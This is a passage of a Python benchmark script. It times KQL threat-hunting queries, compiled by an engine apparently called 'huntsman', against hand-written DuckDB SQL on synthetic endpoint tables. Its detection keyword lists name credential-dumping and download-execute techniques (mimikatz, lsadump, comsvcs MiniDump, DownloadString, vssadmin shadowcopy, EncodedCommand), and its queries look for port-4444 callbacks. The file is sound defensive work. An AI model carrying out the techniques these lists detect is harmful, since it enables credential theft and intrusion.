    empty = {"string": "''", "long": "0", "int": "0", "real": "0.0", "bool": "false"}
    out = []
    for name, ktype in columns:
        out.append(given.get(name, empty.get(ktype, "NULL")))
    return out


def _insert_process_events(con: duckdb.DuckDBPyConnection, cols: list[tuple[str, str]],
                           rows: int, dims: Dims) -> None:
    accounts = SYSTEM_ACCOUNTS + dims.users
    con.execute(f"""
        INSERT INTO "DeviceProcessEvents" ({column_list(cols)})
        SELECT {", ".join(_defaults(cols, process_columns(dims)))}
        FROM (SELECT *, {_timestamp(rows, 10)} AS ts, {pick(accounts, 'a')} AS account,
                     {pick(dims.users, f'd % {N_USERS}')} AS owner
              FROM ({_process_base(rows, dims)}))""")


def _insert_network_events(con: duckdb.DuckDBPyConnection, cols: list[tuple[str, str]],
                           rows: int, dims: Dims) -> None:
    port_bag = weighted_bag([w for _, w in PORTS])
    proc_bag = weighted_bag([w for _, w in NET_PROCS])
    port = pick([p for p, _ in PORTS], pick(port_bag, h(42, len(port_bag))))
    con.execute(f"""
        INSERT INTO "DeviceNetworkEvents" ({column_list(cols)})
        SELECT {", ".join(_defaults(cols, network_columns(dims)))}
        FROM (SELECT *, {_timestamp(rows, 40)} AS ts, CAST({port} AS INTEGER) AS port,
                     {pick(proc_bag, h(43, len(proc_bag)))} AS np
              FROM (SELECT range AS i, {h(41, N_DEVICES, 'range')} AS d FROM range({rows})))""")


def generate(db: Database, rows: int, network: bool = True) -> dict[str, float]:
    """Fill DeviceProcessEvents (``rows``) and DeviceNetworkEvents (``rows // 5``) in SQL;
    the seconds each took."""
    dims = build_dims()
    con, tables = duck(db), db.tables()
    took: dict[str, float] = {}
    t0 = time.perf_counter()
    _insert_process_events(con, tables["DeviceProcessEvents"], rows, dims)
    took["DeviceProcessEvents"] = time.perf_counter() - t0
    if network:
        t0 = time.perf_counter()
        _insert_network_events(con, tables["DeviceNetworkEvents"], max(rows // 5, 1), dims)
        took["DeviceNetworkEvents"] = time.perf_counter() - t0
    return took


# ---------------------------------------------------------------- queries

@dataclass(frozen=True)
class Query:
    """One hunting query: KQL, the same work in hand-written DuckDB SQL, and optionally the
    same query with its term match replaced by a plain ``ILIKE '%term%'`` substring scan."""

    name: str
    kql: str
    sql: str
    ilike_sql: str | None = None


HAS_ANY_TERMS = ["mimikatz", "sekurlsa", "lsadump", "DownloadString", "DownloadFile",
                 "Invoke-Expression", "urlcache", "comsvcs", "MiniDump", "procdump", "PsExec",
                 "vssadmin", "shadowcopy", "wbadmin", "bcdedit", "mshta", "scrobj",
                 "EncodedCommand", "FromBase64String", "krbtgt"]
LOLBINS = ["cmd.exe", "powershell.exe", "rundll32.exe", "mshta.exe", "regsvr32.exe",
           "certutil.exe", "wscript.exe", "cscript.exe"]
OFFICE_APPS = ["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe"]
BOUNDARY = "[^[:alnum:]]"


def kql_list(values: Sequence[str]) -> str:
    return "(" + ", ".join(f'"{v}"' for v in values) + ")"


def term_regex(terms: Sequence[str]) -> str:
    """Kusto ``has`` for alphanumeric-edged terms: the term between non-alphanumerics."""
    alts = "|".join(re.escape(t) for t in terms)
    return f"(?i)(?:^|{BOUNDARY})(?:{alts})(?:$|{BOUNDARY})"


def _term_queries() -> list[Query]:
    cols = '"Timestamp", "DeviceName", "AccountName", "ProcessCommandLine"'
    has_sql = (f"SELECT {cols} FROM \"DeviceProcessEvents\" WHERE \"ProcessCommandLine\" "
               f"ILIKE '%mimikatz%'")
    any_cols = '"Timestamp", "DeviceName", "FileName", "ProcessCommandLine"'
    downloads = ["DownloadString", "DownloadFile", "urlcache"]
    any_like = " OR ".join(f"\"ProcessCommandLine\" ILIKE '%{t}%'" for t in HAS_ANY_TERMS)
    return [
        Query("has_term",
              'DeviceProcessEvents | where ProcessCommandLine has "mimikatz" '
              "| project Timestamp, DeviceName, AccountName, ProcessCommandLine",
              f"{has_sql} AND regexp_matches(\"ProcessCommandLine\", "
              f"{sql_str(term_regex(['mimikatz']))})",
              has_sql),
        Query("has_any_20",
              f"DeviceProcessEvents | where ProcessCommandLine has_any "
              f"{kql_list(HAS_ANY_TERMS)} | project Timestamp, DeviceName, FileName, "
              f"ProcessCommandLine",
              f"SELECT {any_cols} FROM \"DeviceProcessEvents\" WHERE regexp_matches("
              f"\"ProcessCommandLine\", {sql_str(term_regex(HAS_ANY_TERMS))})",
              f"SELECT {any_cols} FROM \"DeviceProcessEvents\" WHERE {any_like}"),
        Query("contains_path",
              'DeviceProcessEvents | where ProcessCommandLine contains @"\\AppData\\Local\\Temp\\"'
              " | summarize count() by FileName",
              'SELECT "FileName", count(*) AS "count_" FROM "DeviceProcessEvents" '
              "WHERE \"ProcessCommandLine\" ILIKE '%\\AppData\\Local\\Temp\\%' GROUP BY 1"),
        Query("extract_url",
              f"DeviceProcessEvents | where ProcessCommandLine has_any {kql_list(downloads)} "
              '| extend Url = extract("https?://[a-zA-Z0-9./_-]+", 0, ProcessCommandLine) '
              "| summarize Hits = count() by Url",
              "SELECT regexp_extract(\"ProcessCommandLine\", 'https?://[a-zA-Z0-9./_-]+', 0) "
              'AS "Url", count(*) AS "Hits" FROM "DeviceProcessEvents" WHERE regexp_matches('
              f"\"ProcessCommandLine\", {sql_str(term_regex(downloads))}) GROUP BY 1"),
    ]


def _filter_queries() -> list[Query]:
    everything = column_list(schema("DeviceProcessEvents"))
    return [
        Query("eq_tilde",
              'DeviceProcessEvents | where FileName =~ "powershell.exe" '
              "| summarize Executions = count() by AccountName",
              'SELECT "AccountName", count(*) AS "Executions" FROM "DeviceProcessEvents" '
              "WHERE lower(\"FileName\") = 'powershell.exe' GROUP BY 1"),
        Query("in_tilde",
              f"DeviceProcessEvents | where InitiatingProcessFileName in~ {kql_list(OFFICE_APPS)}"
              f" | where FileName in~ {kql_list(LOLBINS)} | project Timestamp, DeviceName, "
              f"InitiatingProcessFileName, FileName, ProcessCommandLine",
              'SELECT "Timestamp", "DeviceName", "InitiatingProcessFileName", "FileName", '
              '"ProcessCommandLine" FROM "DeviceProcessEvents" WHERE lower('
              f'"InitiatingProcessFileName") IN {sql_in(OFFICE_APPS)} AND lower("FileName") IN '
              f"{sql_in(LOLBINS)}"),
        Query("startswith_dcount",
              'DeviceProcessEvents | where FolderPath startswith @"C:\\Users\\" '
              '| summarize Devices = dcount(DeviceId) by FileName',
              'SELECT "FileName", count(DISTINCT "DeviceId") AS "Devices" FROM '
              "\"DeviceProcessEvents\" WHERE \"FolderPath\" ILIKE 'C:\\Users\\%' GROUP BY 1"),
        Query("top10",
              "DeviceProcessEvents | top 10 by Timestamp",
              f'SELECT {everything} FROM "DeviceProcessEvents" ORDER BY "Timestamp" DESC '
              "LIMIT 10"),
    ]


def _summarize_queries() -> list[Query]:
    since = "TIMESTAMP '2024-05-24 00:00:00'"
    everything = column_list(schema("DeviceProcessEvents"))
    return [
        Query("count_by_2keys",
              "DeviceProcessEvents | summarize count() by AccountName, FileName",
              'SELECT "AccountName", "FileName", count(*) AS "count_" FROM '
              '"DeviceProcessEvents" GROUP BY 1, 2'),
        Query("dcount_bin_1h",
              "DeviceProcessEvents | summarize dcount(DeviceId) by bin(Timestamp, 1h)",
              "SELECT date_trunc('hour', \"Timestamp\") AS \"Timestamp\", count(DISTINCT "
              '"DeviceId") AS "dcount_DeviceId" FROM "DeviceProcessEvents" GROUP BY 1'),
        Query("ago_top_devices",
              "DeviceProcessEvents | where Timestamp > ago(7d) | summarize Processes = count(), "
              "Users = dcount(AccountName), Binaries = dcount(SHA256) by DeviceName "
              "| top 20 by Processes",
              'SELECT "DeviceName", count(*) AS "Processes", count(DISTINCT "AccountName") AS '
              '"Users", count(DISTINCT "SHA256") AS "Binaries" FROM "DeviceProcessEvents" '
              f'WHERE "Timestamp" > {since} GROUP BY 1 ORDER BY "Processes" DESC LIMIT 20'),
        Query("arg_max_star",
              "DeviceProcessEvents | summarize arg_max(Timestamp, *) by DeviceId",
              f'SELECT {everything} FROM "DeviceProcessEvents" QUALIFY row_number() OVER '
              '(PARTITION BY "DeviceId" ORDER BY "Timestamp" DESC) = 1'),
        Query("mv_expand_tags",
              "DeviceProcessEvents | where isnotempty(AdditionalFields) "
              "| extend Fields = parse_json(AdditionalFields) "
              "| mv-expand Tag = Fields.Tags to typeof(string) | summarize count() by Tag",
              'SELECT "Tag", count(*) AS "count_" FROM (SELECT unnest(json_extract_string('
              "\"AdditionalFields\", '$.Tags[*]')) AS \"Tag\" FROM \"DeviceProcessEvents\" "
              "WHERE \"AdditionalFields\" <> '') GROUP BY 1"),
    ]


def _join_queries() -> list[Query]:
    return [
        Query("join_inner",
              'DeviceProcessEvents | where FileName in~ ("powershell.exe", "pwsh.exe") '
              'and ProcessCommandLine has "DownloadString" '
              "| project DeviceId, DeviceName, ProcTime = Timestamp, ProcessCommandLine "
              "| join kind=inner (DeviceNetworkEvents | where RemotePort == 4444 "
              "| project DeviceId, NetTime = Timestamp, RemoteIP) on DeviceId "
              "| where NetTime between (ProcTime .. 1d) "
              "| project DeviceName, ProcTime, NetTime, RemoteIP, ProcessCommandLine",
              'SELECT p."DeviceName", p."Timestamp" AS "ProcTime", n."Timestamp" AS "NetTime", '
              'n."RemoteIP", p."ProcessCommandLine" FROM "DeviceProcessEvents" p JOIN '
              '"DeviceNetworkEvents" n ON p."DeviceId" = n."DeviceId" '
              "WHERE lower(p.\"FileName\") IN ('powershell.exe', 'pwsh.exe') AND "
              "p.\"ProcessCommandLine\" ILIKE '%DownloadString%' AND regexp_matches("
              f"p.\"ProcessCommandLine\", {sql_str(term_regex(['DownloadString']))}) AND "
              'n."RemotePort" = 4444 AND n."Timestamp" BETWEEN p."Timestamp" AND '
              "p.\"Timestamp\" + INTERVAL 1 DAY"),
        Query("join_leftanti",
              f"DeviceProcessEvents | where InitiatingProcessFileName in~ "
              f"{kql_list(OFFICE_APPS)} | join kind=leftanti (DeviceNetworkEvents "
              f"| where RemotePort == 4444) on DeviceId "
              f"| project Timestamp, DeviceName, FileName, ProcessCommandLine",
              'SELECT p."Timestamp", p."DeviceName", p."FileName", p."ProcessCommandLine" '
              'FROM "DeviceProcessEvents" p WHERE lower(p."InitiatingProcessFileName") IN '
              f'{sql_in(OFFICE_APPS)} AND NOT EXISTS (SELECT 1 FROM "DeviceNetworkEvents" n '
              'WHERE n."RemotePort" = 4444 AND n."DeviceId" = p."DeviceId")'),
    ]


def sql_in(values: Sequence[str]) -> str:
    return "(" + ", ".join(sql_str(v) for v in values) + ")"


def _ipv4_sql(column: str) -> str:
    parts = [f"TRY_CAST(split_part({column}, '.', {k}) AS BIGINT) * {256 ** (4 - k)}"
             for k in range(1, 5)]
    return " + ".join(parts)


def _breadth_queries() -> list[Query]:
    """The wider language: make-series, mv-apply, parse, FileProfile(), geolocation."""
    ps_days = ("SELECT \"DeviceName\", date_trunc('day', \"Timestamp\") AS d, count(*) AS c "
               "FROM \"DeviceProcessEvents\" WHERE lower(\"FileName\") = 'powershell.exe' AND "
               "\"Timestamp\" >= TIMESTAMP '2024-05-01' AND \"Timestamp\" < TIMESTAMP "
               "'2024-05-31' GROUP BY 1, 2")
    ip = _ipv4_sql('"RemoteIP"')
    return [
        Query("make_series",
              'DeviceProcessEvents | where FileName =~ "powershell.exe" '
              "| make-series Runs = count() default = 0 on Timestamp from datetime(2024-05-01) "
              "to datetime(2024-05-31) step 1d by DeviceName",
              f"WITH c AS ({ps_days}), g AS (SELECT DISTINCT \"DeviceName\" FROM c), "
              "days AS (SELECT unnest(generate_series(TIMESTAMP '2024-05-01', "
              "TIMESTAMP '2024-05-30', INTERVAL 1 DAY)) AS d) "
              'SELECT g."DeviceName", list(coalesce(c.c, 0) ORDER BY days.d) AS "Runs", '
              'list(days.d ORDER BY days.d) AS "Timestamp" FROM g CROSS JOIN days LEFT JOIN c '
              'ON c."DeviceName" = g."DeviceName" AND c.d = days.d GROUP BY 1'),
        Query("mv_apply_top1",
              "DeviceProcessEvents | where isnotempty(AdditionalFields) "
              "| mv-apply Tag = parse_json(AdditionalFields).Tags to typeof(string) "
              "on (top 1 by Tag asc) | summarize count() by Tag",
              'SELECT "Tag", count(*) AS "count_" FROM (SELECT list_min(json_extract_string('
              "\"AdditionalFields\", '$.Tags[*]')) AS \"Tag\" FROM \"DeviceProcessEvents\" "
              "WHERE \"AdditionalFields\" <> '') GROUP BY 1"),
        Query("parse_path",
              'DeviceProcessEvents | parse FolderPath with Drive ":\\\\" Top "\\\\" * '
              "| summarize count() by Top",
              "SELECT regexp_extract(\"FolderPath\", '^(.*?):\\\\(.*?)\\\\', 2) AS \"Top\", "
              'count(*) AS "count_" FROM "DeviceProcessEvents" GROUP BY 1'),
        Query("file_profile",
              'DeviceProcessEvents | where FileName =~ "rundll32.exe" | distinct SHA1 '
              "| invoke FileProfile()",
              "WITH k AS (SELECT DISTINCT \"SHA1\" AS k FROM \"DeviceProcessEvents\" WHERE "
              "lower(\"FileName\") = 'rundll32.exe'), p AS (SELECT \"SHA1\" AS k, "
              'any_value("SHA256") AS sha256, any_value("MD5") AS md5, max("FileSize") AS size, '
              'count(DISTINCT "DeviceId") AS prevalence, min("Timestamp") AS first_seen, '
              'max("Timestamp") AS last_seen FROM "DeviceProcessEvents" WHERE "SHA1" IN '
              "(SELECT k FROM k) GROUP BY 1) SELECT k.k AS \"SHA1\", p.* EXCLUDE (k) FROM k "
              "LEFT JOIN p ON p.k = k.k"),
        Query("geo_country",
              "DeviceNetworkEvents | where RemotePort in (3389, 445, 135) and "
              'RemoteIPType == "Public" '
              "| extend Country = tostring(geo_info_from_ip_address(RemoteIP).country) "
              "| summarize Connections = count() by Country",
              f"WITH n AS (SELECT {ip} AS v FROM \"DeviceNetworkEvents\" "
              "WHERE \"RemotePort\" IN (3389, 445, 135) AND \"RemoteIPType\" = 'Public') "
              'SELECT g."country" AS "Country", count(*) AS "Connections" FROM n LEFT JOIN '
              '"__geoip_v4" g ON g."block" = n.v >> 16 AND n.v BETWEEN g."start_ip" AND '
              'g."end_ip" GROUP BY 1'),
    ]


def queries() -> list[Query]:
    return (_term_queries() + _filter_queries() + _summarize_queries() + _join_queries()
            + _breadth_queries())


# ---------------------------------------------------------------- measurement

@dataclass
class Result:
    """The figures of one query (times in milliseconds, medians over the repetitions)."""

    name: str
    rows: int = 0
    sql_rows: int = 0
    huntsman_ms: float = 0.0
    sql_ms: float = 0.0
    ratio: float = 0.0
    h_compile_ms: float = 0.0
    h_execute_ms: float = 0.0
    h_fetch_ms: float = 0.0
    ilike_ms: float | None = None
    term_ratio: float | None = None
    compile_ms: float = 0.0
    reps: int = 0
    error: str | None = None
    samples: dict[str, list[float]] = field(default_factory=dict)


def run_kql(db: Database, kql: str) -> tuple[int, float, tuple[float, float, float]]:
    """End to end through the public API (``db.query(kql).rows``): the row count, the total
    seconds and their (compile, execute, fetch) split; the rows are freed after the clock."""
    gc.collect()
    t0 = time.perf_counter()
    res = db.query(kql, now=NOW)
    rows = res.rows
    total = time.perf_counter() - t0
    st = res.stats
    return len(rows), total, (st.compile_time, st.execute_time, total - st.elapsed)


def run_sql(db: Database, sql: str) -> tuple[int, float]:
    """Execute + fetch into Python rows: the row count and the seconds."""
    gc.collect()
    t0 = time.perf_counter()
    rows = db.backend.execute(sql).to_pylist()
    total = time.perf_counter() - t0
    return len(rows), total


class Runs:
    """Timed runs of one query, each way; every run goes through the same code path."""

    def __init__(self, db: Database, q: Query):
        self.db, self.q = db, q
        self.kql: list[float] = []
        self.parts: list[tuple[float, float, float]] = []
        self.sql: list[float] = []
        self.ilike: list[float] = []
        self.rows = self.sql_rows = 0

    def run_kql(self) -> None:
        self.rows, total, parts = run_kql(self.db, self.q.kql)
        self.kql.append(total)
        self.parts.append(parts)

    def run_sql(self) -> None:
        self.sql_rows, total = run_sql(self.db, self.q.sql)
        self.sql.append(total)
        if self.q.ilike_sql is not None:
            self.ilike.append(run_sql(self.db, self.q.ilike_sql)[1])

    def slowest(self) -> float:
        return max(self.kql + self.sql + self.ilike)

    def clear(self) -> None:
        for samples in (self.kql, self.parts, self.sql, self.ilike):
            samples.clear()


def check(db: Database, qs: Sequence[Query]) -> dict[str, tuple[Result, Runs]]:
    """Run every query once both ways (also the warm-up) and compare the row counts."""
    out: dict[str, tuple[Result, Runs]] = {}
    for q in qs:
        r, runs = Result(q.name), Runs(db, q)
        try:
            runs.run_kql()
            runs.run_sql()
        except Exception as e:  # report and go on: the benchmark must finish
            r.error = f"{type(e).__name__}: {e}".splitlines()[0]
            print(f"ERROR  {q.name}: {r.error}")
        else:
            r.rows, r.sql_rows = runs.rows, runs.sql_rows
            if r.rows != r.sql_rows:
                print(f"WARNING  {q.name}: huntsman returned {r.rows} rows, the SQL "
                      f"{r.sql_rows}")
        out[q.name] = (r, runs)
    return out


def measure(r: Result, runs: Runs, reps: int, budget: float) -> None:
    """Interleave huntsman and SQL runs, alternating which goes first; medians in ms.

    A query whose warm-up run already exceeds ``budget`` seconds keeps that single run as
    its figure; otherwise it gets as many of ``reps`` runs as fit in the budget (at least 1).
    """
    slowest = runs.slowest()
    r.reps = 0 if slowest > budget else max(1, min(reps, int(budget / slowest)))
    if r.reps:
        runs.clear()
    for i in range(r.reps):
        for step in ((runs.run_kql, runs.run_sql) if i % 2 == 0 else
                     (runs.run_sql, runs.run_kql)):
            step()
    ms = 1000.0
    r.huntsman_ms = statistics.median(runs.kql) * ms
    r.sql_ms = statistics.median(runs.sql) * ms
    r.ratio = r.huntsman_ms / r.sql_ms
    r.h_compile_ms, r.h_execute_ms, r.h_fetch_ms = (
        statistics.median(p[k] for p in runs.parts) * ms for k in range(3))
    r.samples = {"huntsman_ms": [x * ms for x in runs.kql],
                 "sql_ms": [x * ms for x in runs.sql]}
    if runs.ilike:
        r.ilike_ms = statistics.median(runs.ilike) * ms
        r.term_ratio = r.huntsman_ms / r.ilike_ms
        r.samples["ilike_ms"] = [x * ms for x in runs.ilike]


def compile_times(db: Database, qs: Sequence[Query], results: dict[str, Result],
                  n: int) -> list[float]:
    """``db.compile(kql)`` ``n`` times per query: every sample in ms (per-query medians kept)."""
    everything: list[float] = []
    for q in qs:
        if results[q.name].error:
            continue
        samples = []
        for _ in range(n):
            t0 = time.perf_counter()
            db.compile(q.kql, NOW)
            samples.append((time.perf_counter() - t0) * 1000.0)
        results[q.name].compile_ms = statistics.median(samples)
        everything += samples
    return everything


# ---------------------------------------------------------------- memory check

MEMORY_QUERIES = [
    "DeviceProcessEvents | summarize count() by DeviceId, FileName, AccountName",
    "DeviceProcessEvents | summarize count(), min(Timestamp) by DeviceId, ProcessCommandLine",
]


def _temp_bytes(db: Database) -> int:
    row = duck(db).execute(
        "SELECT coalesce(sum(size), 0) FROM duckdb_temporary_files()").fetchone()
    return int(row[0]) if row else 0


def memory_check(rows: int) -> dict[str, Any]:
    """Generate the data into a ``memory_limit="2GiB"`` store and summarize at high cardinality.

    The configuration is locked, so the spill directory is DuckDB's default, ``.tmp`` under
    the current directory: run from a scratch directory and report what was spilled."""
    out: dict[str, Any] = {"memory_limit": "2GiB", "rows": rows, "queries": []}
    old = os.getcwd()
    with tempfile.TemporaryDirectory(prefix="huntsman-bench-") as scratch:
        os.chdir(scratch)
        try:
            with huntsman.connect(memory_limit="2GiB") as db:
                con = duck(db)
                out["temp_directory"] = con.execute(
                    "SELECT current_setting('temp_directory')").fetchone()[0]  # type: ignore[index]
                try:
                    out["generate_s"] = generate(db, rows, network=False)["DeviceProcessEvents"]
                except Exception as e:
                    out["error"] = f"generation failed: {type(e).__name__}: {e}"
                    return out
                out["table_spill_bytes"] = _temp_bytes(db)
                for kql in MEMORY_QUERIES:
                    out["queries"].append(_memory_query(db, kql))
        finally:
            os.chdir(old)
    return out


def _memory_query(db: Database, kql: str) -> dict[str, Any]:
    entry: dict[str, Any] = {"kql": kql}
    t0 = time.perf_counter()
    try:
        res = db.query(kql)
        entry.update(ok=True, groups=len(res), seconds=time.perf_counter() - t0,
                     temp_bytes_after=_temp_bytes(db))
    except Exception as e:
        entry.update(ok=False, seconds=time.perf_counter() - t0,
                     error=f"{type(e).__name__}: {e}".splitlines()[0])
    return entry


# ---------------------------------------------------------------- report

def _verdict(value: float | None, target: float) -> str:
    if value is None:
        return "n/a"
    return f"{value:.2f} (target <= {target:g}: {'met' if value <= target else 'NOT met'})"


def summarize(results: dict[str, Result], compile_samples: list[float]) -> dict[str, Any]:
    ok = [r for r in results.values() if not r.error and r.sql_ms > 0]
    worst = max(ok, key=lambda r: r.ratio) if ok else None
    term = {r.name: r.term_ratio for r in ok if r.term_ratio is not None}
    per_query = [r.compile_ms for r in ok if r.compile_ms]
    return {
        "median_ratio": statistics.median(r.ratio for r in ok) if ok else None,
        "worst_ratio": worst.ratio if worst else None,
        "worst_query": worst.name if worst else None,
        "slower_than_1_2": [r.name for r in ok if r.ratio > TARGET_MEDIAN],
        "term_vs_ilike": term,
        "compile_median_ms": statistics.median(compile_samples) if compile_samples else None,
        "compile_p95_ms": (statistics.quantiles(compile_samples, n=20)[-1]
                           if len(compile_samples) > 1 else None),
        "compile_worst_query_median_ms": max(per_query) if per_query else None,
        "errors": {r.name: r.error for r in results.values() if r.error},
        "row_mismatches": [r.name for r in ok if r.rows != r.sql_rows],
    }


def print_table(results: dict[str, Result]) -> None:
    head = (f"{'query':<18} {'rows':>8} {'huntsman':>9} {'compile':>8} {'execute':>8} "
            f"{'fetch':>7} {'SQL':>9} {'ratio':>6} {'compile':>8}")
    print()
    print(f"{'':<18} {'':>8} {'ms':>9} {'ms':>8} {'ms':>8} {'ms':>7} {'ms':>9} {'':>6} "
          f"{'200x ms':>8}")
    print(head)
    print("-" * len(head))
    for r in results.values():
        if r.error:
            print(f"{r.name:<18} ERROR {r.error}")
            continue
        flag = " *" if r.ratio > TARGET_MEDIAN else ""
        print(f"{r.name:<18} {r.rows:>8} {r.huntsman_ms:>9.1f} {r.h_compile_ms:>8.2f} "
              f"{r.h_execute_ms:>8.1f} {r.h_fetch_ms:>7.1f} {r.sql_ms:>9.1f} {r.ratio:>6.2f} "
              f"{r.compile_ms:>8.2f}{flag}")
    print("(* slower than 1.2x the hand-written SQL; 'compile'/'execute'/'fetch' split the "
          "huntsman time)")


def print_summary(results: dict[str, Result], summary: dict[str, Any]) -> None:
    print()
    print(f"median ratio huntsman/SQL : {_verdict(summary['median_ratio'], TARGET_MEDIAN)}")
    print(f"worst ratio               : {_verdict(summary['worst_ratio'], TARGET_WORST)}"
          f"  [{summary['worst_query']}]")
    for name, ratio in summary["term_vs_ilike"].items():
        r = results[name]
        print(f"{name + ' vs ILIKE scan':<26}: {_verdict(ratio, TARGET_TERM)}  "
              f"[{r.huntsman_ms:.1f} ms vs {r.ilike_ms:.1f} ms]")
    print(f"compile time (median)     : {_verdict(summary['compile_median_ms'], TARGET_COMPILE_MS)}"
          f" ms; p95 {summary['compile_p95_ms'] or 0:.2f} ms; slowest query median "
          f"{summary['compile_worst_query_median_ms'] or 0:.2f} ms")
    if summary["row_mismatches"]:
        print(f"row-count mismatches      : {', '.join(summary['row_mismatches'])}")


def print_memory(mem: dict[str, Any]) -> None:
    print()
    print(f"memory check (memory_limit={mem['memory_limit']}, {mem['rows']:,} rows, "
          f"temp_directory={mem.get('temp_directory')!r}):")
    if "error" in mem:
        print(f"  FAILED: {mem['error']}")
        return
    print(f"  generated in {mem['generate_s']:.1f} s; table data spilled to temp files: "
          f"{mem['table_spill_bytes'] / 2**20:,.0f} MiB")
    for q in mem["queries"]:
        if q["ok"]:
            print(f"  completed in {q['seconds']:.1f} s, {q['groups']:,} groups, temp files "
                  f"{q['temp_bytes_after'] / 2**20:,.0f} MiB: {q['kql']}")
        else:
            print(f"  FAILED after {q['seconds']:.1f} s: {q['error']}: {q['kql']}")


# ---------------------------------------------------------------- main

def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    p.add_argument("--rows", type=int, default=DEFAULT_ROWS,
                   help="DeviceProcessEvents rows (DeviceNetworkEvents gets rows / 5)")
    p.add_argument("--quick", action="store_true", help=f"smoke run with {QUICK_ROWS:,} rows")
    p.add_argument("--reps", type=int, default=5, help="timed repetitions per query (median)")
    p.add_argument("--budget", type=float, default=120.0,
                   help="seconds per query side: fewer reps for very slow queries")
    p.add_argument("--compile-runs", type=int, default=200, help="compilations per query")
    p.add_argument("--threads", type=int, default=None, help="DuckDB threads (default: all)")
    p.add_argument("--only", nargs="*", default=None, help="run only these query names")
    p.add_argument("--skip", nargs="*", default=[], help="leave out these query names")
    p.add_argument("--no-memory", action="store_true", help="skip the 2 GiB memory check")
    p.add_argument("--json", type=Path, default=None, help="also write the figures here")
    args = p.parse_args(argv)
    if args.quick:
        args.rows = QUICK_ROWS
    return args


def selected(args: argparse.Namespace) -> list[Query]:
    return [q for q in queries()
            if (not args.only or q.name in args.only) and q.name not in args.skip]


def preflight(qs: Sequence[Query]) -> dict[str, str]:
    """Compile every query once before anything else: a compile error shows at once, and every
    lazily imported compiler module is loaded now, so that all figures come from one version
    of the engine even if the source tree changes during a long run. KQL -> SQL text."""
    out: dict[str, str] = {}
    for kql in [q.kql for q in qs] + MEMORY_QUERIES:
        try:
            out[kql] = huntsman.to_sql(kql, now=NOW)
        except Exception as e:
            out[kql] = f"-- compile error: {type(e).__name__}: {e}"
            print(f"ERROR  does not compile: {kql}\n       {type(e).__name__}: {e}")
    return out


def benchmark(args: argparse.Namespace, qs: Sequence[Query]
              ) -> tuple[dict[str, Result], dict[str, Any], dict[str, float]]:
    with huntsman.connect(threads=args.threads) as db:
        took = generate(db, args.rows)
        for table, seconds in took.items():
            n = duck(db).execute(f'SELECT count(*) FROM "{table}"').fetchone()
            print(f"generated {table}: {n[0] if n else 0:,} rows in {seconds:.1f} s")
        checked = check(db, qs)
        results = {name: r for name, (r, _) in checked.items()}
        for r, runs in checked.values():
            if r.error:
                continue
            print(f"  {r.name:<18} ", end="", flush=True)
            measure(r, runs, args.reps, args.budget)
            print(f"huntsman {r.huntsman_ms:10.1f} ms   SQL {r.sql_ms:9.1f} ms"
                  f"   (reps: {r.reps or '0, warm-up run only'})", flush=True)
        samples = compile_times(db, qs, results, args.compile_runs)
    return results, summarize(results, samples), took


def write_json(path: Path, head: dict[str, Any], results: dict[str, Result],
               summary: dict[str, Any], mem: dict[str, Any] | None,
               qs: Sequence[Query], compiled: dict[str, str]) -> None:
    doc = {**head, "queries": [asdict(r) for r in results.values()], "summary": summary,
           "memory_check": mem,
           "queries_text": {q.name: {"kql": q.kql, "sql": q.sql, "ilike_sql": q.ilike_sql,
                                     "huntsman_sql": compiled.get(q.kql)} for q in qs}}
    path.write_text(json.dumps(doc, indent=2, default=str))
    print(f"\nwrote {path}")


def git_commit() -> str | None:
    """The checked-out commit of the repository, to date the figures (None outside git)."""
    try:
        out = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True,
                             text=True, check=True, cwd=Path(__file__).resolve().parent)
    except (OSError, subprocess.CalledProcessError):
        return None
    return out.stdout.strip() or None


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    head = {"commit": git_commit(), "rows": args.rows, "reps": args.reps,
            "duckdb": duckdb.__version__, "python": platform.python_version(),
            "cpus": os.cpu_count()}
    print(f"huntsman benchmark: {args.rows:,} DeviceProcessEvents rows, {args.reps} reps, "
          f"duckdb {head['duckdb']}, python {head['python']}, {head['cpus']} cpus, "
          f"commit {head['commit']}")
    qs = selected(args)
    compiled = preflight(qs)
    results, summary, head["generate_s"] = benchmark(args, qs)
    print_table(results)
    print_summary(results, summary)
    mem: dict[str, Any] | None = None
    if not args.no_memory:
        mem = memory_check(args.rows)
        print_memory(mem)
    if args.json:
        write_json(args.json, head, results, summary, mem, qs, compiled)
    return 0


if __name__ == "__main__":
    sys.exit(main())
